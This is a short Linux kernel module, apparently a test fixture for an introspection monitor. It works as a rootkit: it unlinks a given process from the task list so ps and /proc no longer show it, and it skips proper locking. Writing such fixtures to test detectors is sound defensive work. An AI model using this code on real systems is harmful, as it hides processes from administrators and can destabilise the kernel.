// SPDX-License-Identifier: GPL-2.0
/*
 * Test rootkit for the introspection SD's tests: unlinks one process from
 * the task list (so /proc and ps no longer show it) and links it back on
 * unload. The process stays in its parent's children list, which is what
 * the monitor cross-checks. (tasklist_lock is not exported to modules;
 * like real rootkits this relies on a quiet moment, with preemption off.)
 */
#include <linux/module.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/pid.h>
#include <linux/rculist.h>

static int pid;
module_param(pid, int, 0400);
static struct task_struct *hidden;

static int __init hide_init(void)
{
	struct pid *p = find_get_pid(pid);

	if (!p)
		return -ESRCH;
	hidden = get_pid_task(p, PIDTYPE_PID);
	put_pid(p);
	if (!hidden)
		return -ESRCH;
	preempt_disable();
	list_del_init(&hidden->tasks);
	preempt_enable();
	pr_info("ssc_hide: pid %d unlinked from the task list\n", pid);
	return 0;
}

static void __exit hide_exit(void)
{
	preempt_disable();
	list_add_tail_rcu(&hidden->tasks, &init_task.tasks);
	preempt_enable();
	put_task_struct(hidden);
	pr_info("ssc_hide: pid %d linked back\n", pid);
}

module_init(hide_init);
module_exit(hide_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("ssc test: hides a process from the task list");
